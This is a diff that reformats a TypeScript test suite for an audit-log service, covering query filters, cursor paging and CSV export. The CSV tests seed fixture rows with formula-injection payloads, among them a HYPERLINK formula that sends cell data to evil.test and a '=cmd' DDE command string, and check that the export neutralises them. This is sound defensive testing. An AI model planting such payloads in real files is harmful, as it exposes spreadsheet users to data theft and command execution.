@@ -18,10 +18,33 @@ describe("audit log query", () => {
   const teamA = randomUUID();
   const teamB = randomUUID();
 
-  const add = (e: { type: string; outcome?: "success" | "failure"; userId?: string | null; minutes: number; data?: Record<string, string>; ip?: string; userAgent?: string; actorId?: string; clientId?: string }) =>
-    t.app.db.prisma.auditEvent.create({ data: { type: e.type, outcome: e.outcome ?? "success", userId: e.userId ?? null, createdAt: at(e.minutes), data: e.data ?? {}, ip: e.ip ?? null, userAgent: e.userAgent ?? null, actorId: e.actorId ?? null, clientId: e.clientId ?? null } });
+  const add = (e: {
+    type: string;
+    outcome?: "success" | "failure";
+    userId?: string | null;
+    minutes: number;
+    data?: Record<string, string>;
+    ip?: string;
+    userAgent?: string;
+    actorId?: string;
+    clientId?: string;
+  }) =>
+    t.app.db.prisma.auditEvent.create({
+      data: {
+        type: e.type,
+        outcome: e.outcome ?? "success",
+        userId: e.userId ?? null,
+        createdAt: at(e.minutes),
+        data: e.data ?? {},
+        ip: e.ip ?? null,
+        userAgent: e.userAgent ?? null,
+        actorId: e.actorId ?? null,
+        clientId: e.clientId ?? null,
+      },
+    });
 
-  const types = async (input: Parameters<AuditLog["list"]>[0]) => (await log.list({ limit: 200, ...input })).events.map((e) => `${e.type}@${e.createdAt.slice(11, 16)}`);
+  const types = async (input: Parameters<AuditLog["list"]>[0]) =>
+    (await log.list({ limit: 200, ...input })).events.map((e) => `${e.type}@${e.createdAt.slice(11, 16)}`);
 
   beforeAll(async () => {
     t = await startTestApp();
@@ -38,22 +61,43 @@ describe("audit log query", () => {
     await add({ type: "login.failed", outcome: "failure", userId: null, minutes: 6 });
     await add({ type: "password_reset.requested", userId: alice.id, minutes: 7 });
   });
-  afterAll(async () => { await t?.close(); });
+  afterAll(async () => {
+    await t?.close();
+  });
 
   const nov = { from: "2026-11-01T00:00:00Z", to: "2026-11-02T00:00:00Z" };
 
   it("no filter but the range: every event of the range, newest first, with the user's email", async () => {
     const { events, nextCursor } = await log.list(nov);
-    expect(events.map((e) => e.type)).toEqual(["password_reset.requested", "login.failed", "loginx.other", "team.member.removed", "team.member.role_changed", "login.second_factor_failed", "login.failed", "login.succeeded"]);
+    expect(events.map((e) => e.type)).toEqual([
+      "password_reset.requested",
+      "login.failed",
+      "loginx.other",
+      "team.member.removed",
+      "team.member.role_changed",
+      "login.second_factor_failed",
+      "login.failed",
+      "login.succeeded",
+    ]);
     expect(nextCursor).toBeNull();
     const first = events.at(-1)!;
-    expect(first).toMatchObject({ userId: alice.id, userEmail: alice.email, outcome: "success", createdAt: "2026-11-01T00:00:00.000Z", data: { teamId: teamA } });
+    expect(first).toMatchObject({
+      userId: alice.id,
+      userEmail: alice.email,
+      outcome: "success",
+      createdAt: "2026-11-01T00:00:00.000Z",
+      data: { teamId: teamA },
+    });
     expect(typeof first.id).toBe("string");
     expect(events[1]).toMatchObject({ userId: null, userEmail: null });
   });
 
   it("filters by user", async () => {
-    expect(await types({ ...nov, userId: bob.id })).toEqual(["team.member.removed@00:04", "team.member.role_changed@00:03", "login.second_factor_failed@00:02"]);
+    expect(await types({ ...nov, userId: bob.id })).toEqual([
+      "team.member.removed@00:04",
+      "team.member.role_changed@00:03",
+      "login.second_factor_failed@00:02",
+    ]);
   });
 
   it("filters by team (the teamId in the event's data)", async () => {
@@ -65,25 +109,42 @@ describe("audit log query", () => {
 
   it("filters by exact type and by prefix (login. matches login.* but not loginx.*)", async () => {
     expect(await types({ ...nov, type: "login.failed" })).toEqual(["login.failed@00:06", "login.failed@00:01"]);
-    expect(await types({ ...nov, type: "login." })).toEqual(["login.failed@00:06", "login.second_factor_failed@00:02", "login.failed@00:01", "login.succeeded@00:00"]);
+    expect(await types({ ...nov, type: "login." })).toEqual([
+      "login.failed@00:06",
+      "login.second_factor_failed@00:02",
+      "login.failed@00:01",
+      "login.succeeded@00:00",
+    ]);
     expect(await types({ ...nov, type: "login.*" })).toEqual(await types({ ...nov, type: "login." }));
     expect(await types({ ...nov, type: "login" })).toEqual([]);
     expect(await types({ ...nov, type: "team.member." })).toEqual(["team.member.removed@00:04", "team.member.role_changed@00:03"]);
   });
 
   it("filters by outcome", async () => {
-    expect(await types({ ...nov, outcome: "failure" })).toEqual(["login.failed@00:06", "login.second_factor_failed@00:02", "login.failed@00:01"]);
+    expect(await types({ ...nov, outcome: "failure" })).toEqual([
+      "login.failed@00:06",
+      "login.second_factor_failed@00:02",
+      "login.failed@00:01",
+    ]);
   });
 
   it("filters by time range [from, to): from included, to excluded", async () => {
-    expect(await types({ from: "2026-11-01T00:01:00Z", to: "2026-11-01T00:03:00Z" })).toEqual(["login.second_factor_failed@00:02", "login.failed@00:01"]);
-    expect(await types({ from: "2026-11-01T01:01:00+01:00", to: "2026-11-01T00:02:00.001Z" })).toEqual(["login.second_factor_failed@00:02", "login.failed@00:01"]);
+    expect(await types({ from: "2026-11-01T00:01:00Z", to: "2026-11-01T00:03:00Z" })).toEqual([
+      "login.second_factor_failed@00:02",
+      "login.failed@00:01",
+    ]);
+    expect(await types({ from: "2026-11-01T01:01:00+01:00", to: "2026-11-01T00:02:00.001Z" })).toEqual([
+      "login.second_factor_failed@00:02",
+      "login.failed@00:01",
+    ]);
   });
 
   it("combines filters (all must hold)", async () => {
     expect(await types({ ...nov, userId: alice.id, type: "login.", outcome: "failure" })).toEqual(["login.failed@00:01"]);
     expect(await types({ ...nov, userId: bob.id, teamId: teamA })).toEqual(["team.member.role_changed@00:03"]);
-    expect(await types({ from: "2026-11-01T00:02:00Z", to: "2026-11-01T00:10:00Z", type: "login.", outcome: "failure", userId: bob.id })).toEqual(["login.second_factor_failed@00:02"]);
+    expect(
+      await types({ from: "2026-11-01T00:02:00Z", to: "2026-11-01T00:10:00Z", type: "login.", outcome: "failure", userId: bob.id }),
+    ).toEqual(["login.second_factor_failed@00:02"]);
     expect(await types({ ...nov, teamId: teamB, outcome: "failure" })).toEqual([]);
   });
 
@@ -130,10 +191,20 @@ describe("audit log pages", () => {
     userId = (await t.createUser()).id;
     // 25 events; several share one created_at (ties are broken by id)
     for (let i = 0; i < 25; i++) {
-      await t.app.db.prisma.auditEvent.create({ data: { type: "page.test", outcome: "success", userId, data: { n: i }, createdAt: new Date(Date.UTC(2026, 10, 5, 0, Math.floor(i / 3))) } });
+      await t.app.db.prisma.auditEvent.create({
+        data: {
+          type: "page.test",
+          outcome: "success",
+          userId,
+          data: { n: i },
+          createdAt: new Date(Date.UTC(2026, 10, 5, 0, Math.floor(i / 3))),
+        },
+      });
     }
   });
-  afterAll(async () => { await t?.close(); });
+  afterAll(async () => {
+    await t?.close();
+  });
 
   const all = async (limit: number) => {
     const seen: number[] = [];
@@ -166,14 +237,18 @@ describe("audit log pages", () => {
     expect(first.events.map((e) => (e.data as { n: number }).n)).toEqual([24, 23, 22, 21, 20, 19, 18, 17, 16, 15]);
     // new events (now, so newer than every row) through the ordinary insert, and one at the very time of the last row seen
     await t.app.queries.auditEvents.insert({ type: "page.test", outcome: "success", userId, data: { n: 100 } });
-    await t.app.db.prisma.auditEvent.create({ data: { type: "page.test", outcome: "success", userId, data: { n: 101 }, createdAt: new Date(Date.UTC(2026, 10, 5, 0, 5)) } });
+    await t.app.db.prisma.auditEvent.create({
+      data: { type: "page.test", outcome: "success", userId, data: { n: 101 }, createdAt: new Date(Date.UTC(2026, 10, 5, 0, 5)) },
+    });
     const second = await log.list({ userId, limit: 10, cursor: first.nextCursor! });
     expect(second.events.map((e) => (e.data as { n: number }).n)).toEqual([14, 13, 12, 11, 10, 9, 8, 7, 6, 5]);
     const third = await log.list({ userId, limit: 10, cursor: second.nextCursor! });
     expect(third.events.map((e) => (e.data as { n: number }).n)).toEqual([4, 3, 2, 1, 0]);
     expect(third.nextCursor).toBeNull();
     // a fresh list shows them where they belong: the newest on top, the tied one among its equals by id
-    expect((await log.list({ userId, limit: 10 })).events.map((e) => (e.data as { n: number }).n)).toEqual([100, 24, 23, 22, 21, 20, 19, 18, 101, 17]);
+    expect((await log.list({ userId, limit: 10 })).events.map((e) => (e.data as { n: number }).n)).toEqual([
+      100, 24, 23, 22, 21, 20, 19, 18, 101, 17,
+    ]);
   });
 });
 
@@ -196,11 +271,27 @@ describe("audit log CSV export", () => {
     user = await t.createUser({ email: `zoë-${randomUUID().slice(0, 6)}@example.test` });
     const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"];
     for (const [i, ua] of hostile.entries()) {
-      await t.app.db.prisma.auditEvent.create({ data: { type: "export.test", outcome: "success", userId: user.id, userAgent: ua, ip: "203.0.113.9", clientId: "=cmd|' /C calc'!A0", actorId: "@admin", createdAt: new Date(Date.UTC(2026, 9, 1, 1, i)), data: { note: "comma, \"quote\"\nnewline", name: "東京 🛡️" } } });
+      await t.app.db.prisma.auditEvent.create({
+        data: {
+          type: "export.test",
+          outcome: "success",
+          userId: user.id,
+          userAgent: ua,
+          ip: "203.0.113.9",
+          clientId: "=cmd|' /C calc'!A0",
+          actorId: "@admin",
+          createdAt: new Date(Date.UTC(2026, 9, 1, 1, i)),
+          data: { note: 'comma, "quote"\nnewline', name: "東京 🛡️" },
+        },
+      });
     }
-    await t.app.db.prisma.auditEvent.create({ data: { type: "export.test", outcome: "failure", userId: null, createdAt: new Date(Date.UTC(2026, 9, 1, 2)), data: {} } });
+    await t.app.db.prisma.auditEvent.create({
+      data: { type: "export.test", outcome: "failure", userId: null, createdAt: new Date(Date.UTC(2026, 9, 1, 2)), data: {} },
+    });
   });
-  afterAll(async () => { await t?.close(); });
+  afterAll(async () => {
+    await t?.close();
+  });
 
   it("header, one row per event newest first, every column, the user's email joined", async () => {
     const text = (await collect(log.exportCsv(range))).join("");
@@ -212,12 +303,21 @@ describe("audit log CSV export", () => {
     const last = rows[7]!;
     expect(last.slice(0, 5)).toEqual(["2026-10-01T01:00:00.000Z", "export.test", "success", user.id, user.email]);
     expect(last[7]).toBe("203.0.113.9");
-    expect(JSON.parse(last[9]!)).toEqual({ note: "comma, \"quote\"\nnewline", name: "東京 🛡️" });
+    expect(JSON.parse(last[9]!)).toEqual({ note: 'comma, "quote"\nnewline', name: "東京 🛡️" });
   });
 
   it("neutralises formula injection in every cell (=HYPERLINK, +1, -1, @SUM, tab, CR), quoting what needs it", async () => {
-    const rows = rowsOf((await collect(log.exportCsv(range))).join("")).slice(2, 8).reverse();
-    expect(rows.map((r) => r[8])).toEqual(["'=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "'+1", "'-1", "'@SUM(A1:A9)", "'\tTab", "'\rCR"]);
+    const rows = rowsOf((await collect(log.exportCsv(range))).join(""))
+      .slice(2, 8)
+      .reverse();
+    expect(rows.map((r) => r[8])).toEqual([
+      '\'=HYPERLINK("http://evil.test/?x="&A1,"click")',
+      "'+1",
+      "'-1",
+      "'@SUM(A1:A9)",
+      "'\tTab",
+      "'\rCR",
+    ]);
     for (const row of rows) {
       expect(row[5]).toBe("'@admin");
       expect(row[6]).toBe("'=cmd|' /C calc'!A0");
@@ -241,6 +341,8 @@ describe("audit log CSV export", () => {
   });
 
   it("an empty range is the header alone", async () => {
-    expect(rowsOf((await collect(log.exportCsv({ from: "2020-01-01T00:00:00Z", to: "2020-01-02T00:00:00Z" }))).join(""))).toEqual([[...EXPORT_COLUMNS]]);
+    expect(rowsOf((await collect(log.exportCsv({ from: "2020-01-01T00:00:00Z", to: "2020-01-02T00:00:00Z" }))).join(""))).toEqual([
+      [...EXPORT_COLUMNS],
+    ]);
   });
 });
